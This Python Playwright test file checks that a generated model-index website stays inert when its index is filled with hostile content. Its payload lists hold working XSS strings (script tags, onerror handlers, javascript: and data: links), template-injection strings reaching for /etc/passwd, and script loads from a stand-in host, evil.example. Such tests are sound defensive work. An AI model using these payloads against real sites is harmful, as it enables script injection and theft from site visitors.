"""The site of an index that means harm, in a real browser: no script of it runs, and nothing leaves
the origin.

Each model is one way to do harm, and states it wherever something can be stated. What would run
sets `window.pwned`; what would be fetched is of evil.example, which no name server knows. Every
request for another origin is noted.
"""

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request

from tests.browser.conftest import served
from zoo.model_index.findings import Finding, Hypothesis, Verdict
from zoo.model_index.ledger.store import Cell, Evidence
from zoo.model_index.ledger.trace import Part, Row, Trace
from zoo.model_index.load import load
from zoo.model_index.reading.reader import STEERING
from zoo.model_index.records.records import Index
from zoo.reporting.views.catalogue import Zoo

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
# The pages of our own documentation, of which no word is an index's.
OWN = set(re.findall(r": (\w+)\.md$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)) - {"index"}
EVIL = "http://evil.example/x"
HARM = {
    "script": (
        "</script></style></title></textarea><script>pwned=1</script><script "
        "src=//evil.example/x></script>"
    ),
    "handler": f"<img src={EVIL} onerror=pwned=1><svg onload=pwned=1>",
    "attribute": "\" onmouseover=pwned=1 autofocus onfocus=pwned=1 x=\"' onclick='pwned=1",
    "comment": "--> <script>pwned=1</script> <!-- --!> ]]> :zoo--> <!--zoo:",
    "markdown": f"[a](javascript:pwned=1) ![a]({EVIL}) <{EVIL}> [a]: {EVIL}",
    "code": "``` ~~~ `<b onclick=pwned=1>` {: onclick=pwned=1 }",
    "template": (
        "{{ self.__init__ }} {% include '/etc/passwd' %} ${7*7} <%= 7 %> {# x "
        "#} %(count)s {0} $\\frac{ &lt;b"
    ),
    "hidden": (
        "a\u202e\x85b\u2066c\u200f \x1b[31m\x9b31m\x00\x02wzxhzdk:0\x03 \\u003cscript\\u003e d"
    ),
    "address": "javascript:pwned=1//https://a.b",
}
LINKS = [
    "javascript://a.b/%0apwned=1",
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    " javascript:pwned=1",
    "java\tscript:pwned=1",
    "vbscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "//evil.example/x",
    'https://a.b/"onclick="pwned=1',
    "https://a.b/'><script>pwned=1</script>",
]
LONG = "\n\n".join(
    (
        "# A heading of theirs",
        "> quote",
        "<b>bold</b>",
        f"<iframe src={EVIL}></iframe>",
        f"<base href={EVIL}>",
        "```\n</code></pre><script>pwned=1</script>\n```",
        "    indented",
        '--8<-- "/etc/passwd"',
    )
)


def stated(number: int, harm: str) -> dict[str, object]:
    """A model that states one text everywhere; numbers are what plots and tables need."""
    long, link = f"{harm}\n\n{LONG}", LINKS[number % len(LINKS)]
    return {
        "Name": f"m{number} {harm}",
        "In Collection": harm,
        "Publisher": harm,
        "Source": link,
        "License": harm,
        "Code": link,
        "Config": harm,
        "README": link,
        "Weights": [*LINKS, harm],
        "Limitations": long,
        "Intended Use": long,
        "Limitations (zh)": long,
        "Description": long,
        "Tags": [harm],
        "Converted From": {"Weights": link, "Code": link},
        "Builder": {"Name": "timm:resnet18", "Arguments": {"a": harm, harm: 1}},
        harm: harm,
        "Metadata": {
            "FLOPs": f"{number + 1} G",
            "Parameters": f"{number + 2} M",
            "Image Size": "224",
            "Interpolation": harm[:90],
            "ID": harm[:90],
            "Tasks": [harm, "Image Classification"],
            "Training Data": [harm],
            "Architecture": [harm],
            "Training Techniques": [harm],
            harm: harm,
            "Year": harm,
            "inference time (ms/im)": [
                {"value": number + 1, "hardware": harm, "batch size": 1, "mode": harm}
            ],
        },
        "Results": [
            {
                "Task": "Image Classification",
                "Dataset": "ImageNet",
                "Metrics": {
                    "Top 1 Accuracy": f"{70 + number}%",
                    "Top 5 Accuracy": f"{80 + number}%",
                },
            },
            {"Task": harm, "Dataset": harm, "Metrics": {"Top 1 Accuracy": "50%", harm: harm}},
        ],
        "Reported": [{"Publisher": f"{harm} too", "Source": link, "Metadata": {"FLOPs": "2 G"}}],
    }


def hostile_index(folder: Path) -> Index:
    collections = [
        {
            "Name": harm,
            "Full Name": harm,
            "Description": f"{harm}\n\n{LONG}",
            "Description (zh)": f"{harm}\n\n{LONG}",
            "Paper": {"Title": harm, "URL": LINKS[number % len(LINKS)]},
            "Citation": f"@misc{{{harm}, title={{{LONG}}}}}",
            "License": harm,
        }
        for number, harm in enumerate(HARM.values())
    ]
    library = {"Name": HARM["script"], "Headline": HARM["handler"], "Docs": LINKS[0]}
    models = [stated(number, harm) for number, harm in enumerate(HARM.values())]
    path = folder / "index.json"
    path.write_text(json.dumps({"Library": library, "Collections": collections, "Models": models}))
    return load([path])


def counted(model: str, number: int, harm: str) -> Evidence:
    rows = (Row("conv2d", "convolution", harm, f"x.{harm}", 10**9 * (number + 1), 5, 5, 0, 5),)
    values = {
        "parts": [list(Part(harm, f"x.{harm}", 10**6, 10**6, 0, 1))],
        "resolved": harm,
        "trace": Trace(((1, 3, 224, 224),), rows).to_lists(),
        "configuration": {"license": harm, "crop_mode": harm},
        "registry": {},
        "input": "224x224 image",
        "input_from": "proposed",
    }
    cell = Cell(
        kind="count",
        model=model,
        builder="timm:resnet18",
        builder_version=f"timm {harm}",
        tool="zoo-count/1",
    )
    machine = {"torch": harm, "cpu": harm}
    return Evidence(
        cell=cell,
        outcome="measured",
        values=values,
        environment=machine,
        command=f"zoo verify {harm}",
    )


def judged(index: Index) -> Iterator[Finding]:
    for entry, harm in zip(index.entries, HARM.values(), strict=True):
        for number, claim in enumerate(
            claim for claim in entry.all_claims() if claim.quantity == "flops"
        ):
            one = Hypothesis(
                causes=(harm,),
                label=f"the value of {harm}",
                rank=4,
                prediction=claim.number,
                residual=Decimal(0),
                fits=True,
                wrong=number == 0,
            )
            yield Finding(
                claim=claim,
                verdict=Verdict.EXPLAINED,
                reason=f"because {harm}",
                measured=claim.number * 2,
                cause=harm,
                prediction=claim.number,
                residual=Decimal(0),
                causes=(harm,),
                wrong=number == 0,
                tried=(one,),
                alternatives=(harm,),
            )


@pytest.fixture(scope="module")
def hostile_site(
    built: Callable[[Zoo, Path], Path], tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """The site of the hostile index, in both languages."""
    folder = tmp_path_factory.mktemp("hostile")
    index = hostile_index(folder)
    made = [
        counted(entry.name, number, harm)
        for number, (entry, harm) in enumerate(zip(index.entries, HARM.values(), strict=True))
    ]
    keys = {
        entry.place: document.cell.key for entry, document in zip(index.entries, made, strict=True)
    }
    evidence = {document.cell.key: document for document in made}
    return built(
        Zoo(index=index, findings=tuple(judged(index)), evidence=evidence, primary=keys),
        folder / "site",
    )


@pytest.fixture(scope="module")
def hostile_address(hostile_site: Path) -> Iterator[str]:
    with served(hostile_site) as found:
        yield found


@dataclass
class Watched:
    """A page, and whatever it did that no page of a site should do."""

    page: Page
    did: list[str] = field(default_factory=list)

    def open(self, address: str) -> None:
        """Go there, and note what is in the page that would act when somebody clicks or points."""
        self.page.goto(address, wait_until="domcontentloaded")
        self.look(address)

    def look(self, address: str, source: str | None = None) -> None:
        """Look at the page that is open, or at the source of another one, which the browser reads
        and does not run."""
        found, text = self.page.evaluate(LOOK, source)
        found += [f"hidden {character!r}" for character in sorted(set(STEERING.findall(text)))]
        self.did += [f"{address}: {what}" for what in found]


# A script ran; a handler, a script or another page waits; something is asked for elsewhere; an
# address that is none of the web.
LOOK = """(source) => {
  const page = source === null ? document : new DOMParser().parseFromString(source, "text/html");
  const found = [];
  if (window.pwned !== undefined) found.push("pwned");
  for (const node of page.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) if (name.startsWith("on")) found.push(`${name}=${value}`);
    for (const name of ["href", "src", "action", "formaction", "xlink:href", "data"]) {
      const value = node.getAttribute(name);
      if (value === null) continue;
      const { protocol, origin } = new URL(value, document.baseURI);
      if (!["http:", "https:", "blob:"].includes(protocol)) found.push(`${name}=${value}`);
      if (name === "src" && origin !== location.origin) found.push(`asks for ${value}`);
    }
  }
  for (const script of page.querySelectorAll("script:not([type='application/json'], [type='application/ld+json'])")) {
    if (script.textContent.includes("pwned")) found.push(script.outerHTML);
  }
  for (const node of page.querySelectorAll("iframe, object, embed, base, meta[http-equiv]")) found.push(node.outerHTML);
  return [found, page.title + (page.body ?? page.documentElement).textContent];
}"""  # noqa: E501


@pytest.fixture
def watched(browser: Browser, hostile_address: str) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    watched = Watched(context.new_page())

    def asked(request: Request) -> None:
        if not request.url.startswith((hostile_address, "blob:")):
            watched.did.append(f"asked for {request.url}")

    def dialog(shown: Dialog) -> None:
        watched.did.append(f"said {shown.message}")
        shown.dismiss()

    def said(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning") and not message.location["url"].endswith(
            "/favicon.ico"
        ):
            watched.did.append(message.text)

    watched.page.on("request", asked)  # of frames and workers too
    watched.page.on("dialog", dialog)
    watched.page.on("popup", lambda page: watched.did.append(f"opened {page.url}"))
    watched.page.on("pageerror", lambda error: watched.did.append(f"raised {error}"))
    watched.page.on("console", said)
    yield watched
    context.close()


def kind(page: str) -> str:
    """The pages of one template: `models/m3/index.html` is one of `models/*`."""
    *folders, _ = page.split("/")
    return "/".join([*folders[:-1], "*"]) if len(folders) > 1 else "/".join(folders)


@pytest.mark.parametrize("opens", ["a page of a kind", pytest.param("all", marks=pytest.mark.slow)])
def test_every_page_is_inert(
    watched: Watched, hostile_site: Path, hostile_address: str, opens: str
) -> None:
    """Chromium reads each page; one of each template, or all, it opens and runs."""
    pages = sorted(
        path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*.html")
    )
    pages = [page for page in pages if page.removeprefix("zh/").split("/")[0] not in OWN]
    chinese = [page for page in pages if page.startswith("zh/models/")]
    assert len(pages) > 50 and len(chinese) > len(HARM)
    first = {kind(page): page for page in reversed(pages)}
    for page in pages if opens == "all" else first.values():
        watched.open(hostile_address + page)
    watched.page.goto(hostile_address)
    for page in pages:
        watched.look(page, (hostile_site / page).read_text(encoding="utf-8"))
    assert watched.did == []


def test_every_picture_and_feed_is_inert(
    watched: Watched, hostile_site: Path, hostile_address: str
) -> None:
    """No script, handler or address of a script in any; a few are opened and run."""
    files = sorted(path for kind in ("svg", "xml") for path in hostile_site.rglob(f"*.{kind}"))
    files = [path for path in files if "assets" not in path.relative_to(hostile_site).parts[:1]]
    assert len(files) > 3
    for path in files:
        for node in ElementTree.parse(path).iter():
            assert not node.tag.endswith(("}script", "}foreignObject")), path
            for name, value in node.attrib.items():
                assert not name.rpartition("}")[2].startswith("on"), (path, name)
                assert "script:" not in value.lower() or not name.endswith("href"), (path, value)
    for path in [path for path in files if path.suffix == ".svg"][:: len(HARM)]:
        watched.open(hostile_address + path.relative_to(hostile_site).as_posix())
    assert watched.did == []


def test_the_table_searches_sorts_and_chooses(watched: Watched, hostile_address: str) -> None:
    page = watched.page
    page.goto(f"{hostile_address}models/")
    page.locator("form.ready").wait_for()
    for key in page.locator("[data-columns] input").all():
        key.evaluate("box => box.click()")
    for number in range(page.locator(".models thead button").count()):
        page.locator(".models thead button").nth(number).click()
    for choice in page.locator("form.filters select:not([data-add], [name=board])").all():
        values = choice.locator("option").evaluate_all("all => all.map(option => option.value)")
        for value in [*values, ""]:
            choice.evaluate(
                """(choice, value) => {
                  choice.value = value;
                  choice.dispatchEvent(new Event("input", { bubbles: true }));
                }""",
                value,
            )
        watched.look("a choice")
    for box in page.locator(".models tbody input").all()[:4]:
        box.click()
    search = page.get_by_label("Name or family")
    for harm in HARM.values():
        search.fill(harm.replace("\x00", ""))
        assert page.locator(".models tbody tr").count() > 0
        watched.look("a search")
    watched.look("the table")
    page.goto(
        f"{hostile_address}models/?search=%3Cimg%20src%3Dx%20onerror%3Dpwned%3D1%3E&sort=%3Cb%3E&columns=%3Cscript%3E"
    )
    watched.look("an address")
    assert watched.did == []


def test_explore_draws_and_names(watched: Watched, hostile_address: str) -> None:
    page = watched.page
    page.goto(f"{hostile_address}explore/?x=flops&y=top1")
    page.locator(".explore.ready").wait_for(state="attached")
    for choice in page.locator("[data-explore] select").all():
        for value in choice.locator("option").evaluate_all(
            "all => all.map(option => option.value)"
        ):
            choice.select_option(value)
        watched.look("explore")
    page.goto(f"{hostile_address}explore/?x=flops&y=top1")
    page.locator("[data-plot]").focus()
    for _ in HARM:
        page.keyboard.press("Shift+ArrowRight")
        watched.look("points")
    page.get_by_label("Point out a model or family").fill("<img src=x onerror=pwned=1>")
    page.locator("[data-listing] summary").click()
    watched.look("names")
    assert watched.did == []


def test_compare_shows_names(watched: Watched, hostile_site: Path, hostile_address: str) -> None:
    slugs = json.loads((hostile_site / "downloads/models.json").read_text())["slugs"]
    assert len(slugs) == len(HARM)
    for start in range(0, len(slugs), 4):
        models = slugs[start : start + 4]
        watched.page.goto(f"{hostile_address}compare/?models={','.join(models)}")
        watched.page.locator(".diff" if len(models) > 1 else ".chip").wait_for()
        watched.look("compare")
    watched.page.locator("#add").fill(HARM["handler"])
    watched.page.keyboard.press("Enter")
    watched.look("a name that nobody has")
    assert watched.did == []


@pytest.mark.parametrize("below", ["", "zh/"])
def test_the_look_up_shows_names(watched: Watched, hostile_address: str, below: str) -> None:
    """Names of models, families and causes, and then what pages that people wrote say of the same
    words."""
    page = watched.page
    page.goto(f"{hostile_address}{below}changes/")
    options = page.locator(".top .lookup [role=option]")
    for words in ("script", "onerror", "javascript", "m3"):
        page.locator(".top .lookup input").fill(words)
        everywhere = options.filter(has_text=f"\N{LEFT DOUBLE QUOTATION MARK}{words}").last
        everywhere.wait_for()
        watched.look(f"look up {words}")
        before = page.locator(".top .lookup ul").inner_text()
        everywhere.click()
        page.wait_for_function(
            "before => document.querySelector('.top .lookup ul').innerText !== before", arg=before
        )
        watched.look(f"look through all pages for {words}")
    assert watched.did == []


def test_what_the_watcher_would_see(
    watched: Watched, hostile_address: str, hostile_site: Path
) -> None:
    """The same watcher, on a page that lets everything in, open and as source."""
    harm = "".join(HARM[name] for name in ("script", "handler", "attribute"))
    page = (
        f"<title>\u202e</title>{harm}<a "
        f"href='{LINKS[4]}'>x</a><script>alert(1)</script><base href=/>"
    )
    (hostile_site / "let-in.html").write_text(f"<!doctype html><meta charset=utf-8>{page}")
    watched.open(f"{hostile_address}let-in.html")
    (hostile_site / "let-in.html").unlink()
    for what in (
        "pwned",
        "onerror=",
        "asked for http://evil.example/x",
        "href=java",
        "said 1",
        "hidden",
        "<base",
    ):
        assert re.search(re.escape(what), "\n".join(watched.did)), (what, watched.did)
    watched.page.goto(hostile_address)
    watched.did.clear()
    watched.look("source", f"<!doctype html><meta charset=utf-8>{page}")
    for what in ("<script>pwned", "onerror=", "asks for //evil.example", "href=java", "hidden"):
        assert what in "\n".join(watched.did), (what, watched.did)
